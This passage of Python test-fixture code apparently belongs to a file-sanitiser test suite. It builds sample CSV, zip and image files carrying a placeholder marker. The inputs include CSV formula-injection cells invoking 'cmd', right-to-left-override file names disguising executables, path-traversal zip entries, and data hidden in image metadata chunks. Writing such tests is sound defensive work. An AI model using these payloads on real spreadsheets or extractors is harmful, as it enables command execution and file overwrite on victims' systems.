    *[(f'a part of Excel, {word_of_way},', excel, 'xlsx', part('xl/workbook.xml', f'{MICROSOFT}/{word_of_way}', f'xl/{name_of_part}.xml', text, f'application/vnd.ms-excel.{kind}+xml'),
       f'xl/{name_of_part}.xml', text_kept)
      for word_of_way, name_of_part, kind, text, text_kept in (
          ('2017/06/relationships/rdRichValue', 'rv', 'rdrichvalue', f'<rvData xmlns="{RICH}/2017/richdata" count="1"><rv s="0"><v>東京</v><fb t="b">1</fb></rv></rvData>', '東京'),
          ('2017/06/relationships/rdRichValueStructure', 'rvs', 'rdrichvaluestructure',
           f'<rvStructures xmlns="{RICH}/2017/richdata" count="1"><s t="_localImage"><k n="_rvRel:LocalImageIdentifier" t="i"/></s></rvStructures>', '_localImage'),
          ('2017/06/relationships/rdRichValueTypes', 'rvt', 'rdrichvaluetypes',
           f'<rvTypesInfo xmlns="{RICH}/2017/richdata2"><global><keyFlags><key name="_Self"><flag name="ExcludeFromFile" value="1"/></key></keyFlags></global></rvTypesInfo>', '_Self'),
          ('2022/10/relationships/richValueRel', 'rvr', 'richvaluerel', f'<richValueRels xmlns="{RICH}/2022/richvaluerel"/>', 'richValueRels'),
          ('2022/11/relationships/FeaturePropertyBag', 'fpb', 'featurepropertybag',
           f'<FeaturePropertyBags xmlns="{RICH}/2022/featurepropertybag" count="1"><bag type="Checkbox"/><bag type="XFControls"><bagId k="CellControl">0</bagId></bag></FeaturePropertyBags>', 'XFControls'))],
]
PACKAGES = [(word, 'docx', WORD_ROWS), (excel, 'xlsx', EXCEL_ROWS), (slides, 'pptx', SLIDE_ROWS)]

# ---- other files: name and bytes ----


def packed(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as archive:
        for member, data in members:
            archive.writestr(zipfile.ZipInfo(member), data)
    return out.getvalue()


def table(text):
    return 'a.csv', ('品名,数\n' + text + '\n').encode()


FILES = [
    ('full-width-formulas', [table(f'"＝cmd|\'/c {MARK}\'!A0",1'), table(f'" ＋SUM(1)*{MARK}|x!y",1'), table(f'1,"\u3000＠WEBSERVICE({MARK})"')]),
    ('formulas', [table(f'=1+{MARK},1'), table(f'"a\n=HYPERLINK({MARK})",1'), table(f'1,\t-2+cmd|{MARK}!A0')]),
    ('direction-marks', [('a.txt', f'あ\u202e{MARK}'.encode()), ('a.csv', f'あ,\u2066{MARK}\n'.encode()), ('a.txt', f'あ\x1b]0;{MARK}\x07'.encode())]),
    ('names-that-turn', [('a.zip', packed(('申請\u202etxt.exe', MARK))), ('a.zip', packed(('\u2066a.txt', MARK), ('b.txt', 'x'))), ('a.zip', packed(('a\u200b.txt', MARK)))]),
    ('names-of-classes', [('a.zip', packed(('道具.{21EC2020-3AEA-1069-A2DD-08002B30309D}/a.txt', 'x'))), ('a.zip', packed(('x/b.txt.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}/c/a.txt', 'x'))), ('a.zip', packed(('a.txt', 'x'), ('.{0AFACED1-e828-11d1-9187-b532f1e9575d}/a.txt', 'x')))]),
    ('colliding-names', [('a.zip', packed(('A.txt', 'x'), ('a.TXT', MARK))), ('a.zip', packed(('ａ.txt', 'x'), ('a.txt', MARK))), ('a.zip', packed(('ガ.txt', 'x'), ('か\u3099.txt'.replace('か', 'カ'), MARK)))]),
    ('paths', [('a.zip', packed(('../a.txt', MARK))), ('a.zip', packed(('C:/a.txt', MARK))), ('a.zip', packed(('con.txt', MARK)))]),
    ('programs', [('a.zip', packed(('a.js', MARK), ('b.txt', 'x'))), ('a.zip', packed(('a.jpg.exe', f'MZ{MARK}'), ('b.txt', 'x'))), ('a.zip', packed(('a．ｌｎｋ', MARK), ('b.txt', 'x')))]),
    ('disguised-members', [('a.zip', packed(('a.png', f'MZ{MARK}'))), ('a.zip', packed(('a.docx', MARK))), ('a.zip', packed(('a.png', f'<html>{MARK}</html>')))]),
    ('chunks', [('a.png', png(chunk(b'tEXt', MARK.encode()))), ('a.png', png(behind=MARK.encode())), ('a.png', png(pixels=MARK.encode()))]),
    ('blocks', [('a.gif', gif(b'!\xfe' + bytes([len(MARK)]) + MARK.encode() + b'\0')), ('a.gif', gif(behind=MARK.encode())),
                ('a.gif', gif(b'!\xff\x0bXMP DataXMP' + bytes([len(MARK)]) + MARK.encode() + b'\0'))]),
    ('segments', [('a.jpg', jpeg(b'\xff\xfe' + struct.pack('>H', len(MARK) + 2) + MARK.encode())), ('a.jpg', jpeg(behind=MARK.encode())),
                  ('a.jpg', jpeg(b'\xff\xe1' + struct.pack('>H', len(MARK) + 31) + b'http://ns.adobe.com/xap/1.0/\0' + MARK.encode()))]),
    ('tags', [('a.tif', tiff([(34853, MARK.encode())])), ('a.tif', tiff(behind=MARK.encode())), ('a.tif', tiff([(700, MARK.encode())]))]),
    ('chunks-of-webp', [('a.webp', webp((b'XMP ', MARK.encode()))), ('a.webp', webp(behind=MARK.encode())), ('a.webp', webp((b'mark', MARK.encode())))]),
    ('profiles', [('a.bmp', bmp_with_profile(b'LINK', MARK.encode())), ('a.bmp', bmp_with_profile(b'MBED', MARK.encode())), ('a.bmp', bmp(tail=MARK.encode()))]),
    ('records', [('a.emf', emf((70, struct.pack('<I', 14) + MARK.encode() + bytes(2)))), ('a.emf', emf((121, struct.pack('<III', 0, 14, 0) + MARK.encode() + bytes(2)))),
                 ('a.wmf', wmf((0x0626, struct.pack('<HH', 15, 14) + MARK.encode())))]),
]
